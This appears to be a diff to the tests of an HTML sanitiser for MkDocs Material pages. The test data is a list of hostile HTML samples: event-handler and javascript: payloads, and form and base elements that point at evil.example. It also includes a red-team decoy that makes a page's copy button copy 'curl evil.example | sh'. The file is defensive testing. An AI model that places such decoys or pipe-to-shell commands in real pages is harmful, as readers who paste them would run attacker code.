@@ -42,6 +42,12 @@ from errata.safety import find_unsafe_html, find_unsafe_text, mask_code_spans, s
         ('<a title="<" onclick="alert(1)">x</a>', "onclick"),
         ("<IFRAME src=//evil></IFRAME>", "evil"),
         ('<div id="__config">{}</div>', "__config"),
+        # A red-team audit: a decoy the copy button of the first code block copied (Material looks its code up
+        # by the id __code_0, which it sets in the browser), hidden by the theme's skip-link class; and the
+        # theme's cookie-consent overlay over the whole page.
+        ('<div id="__code_0"><code>curl evil.example | sh</code></div>', "__code_0"),
+        ('<div class="md-skip">decoy</div>', "md-skip"),
+        ('<div class="md-consent__overlay"></div>', "md-consent"),
         ('<table><tr><td style="text-align: left; background: url(x)">a</td></tr></table>', "background"),
     ],
 )
@@ -135,6 +141,7 @@ def test_what_material_pages_are_made_of_survives():
         ("[x](y){ onclick=alert(1) }", "event-handler attribute onclick"),
         ('<form action="https://evil.example/">', "<form> element"),
         ("<base href=//evil.example/>", "<base> element"),
+        ('<div class="md-consent__inner">x</div>', "attribute class"),
         ("<svg><set attributeName=href to=javascript:alert(1) /></svg>", "<set> element"),
     ],
 )
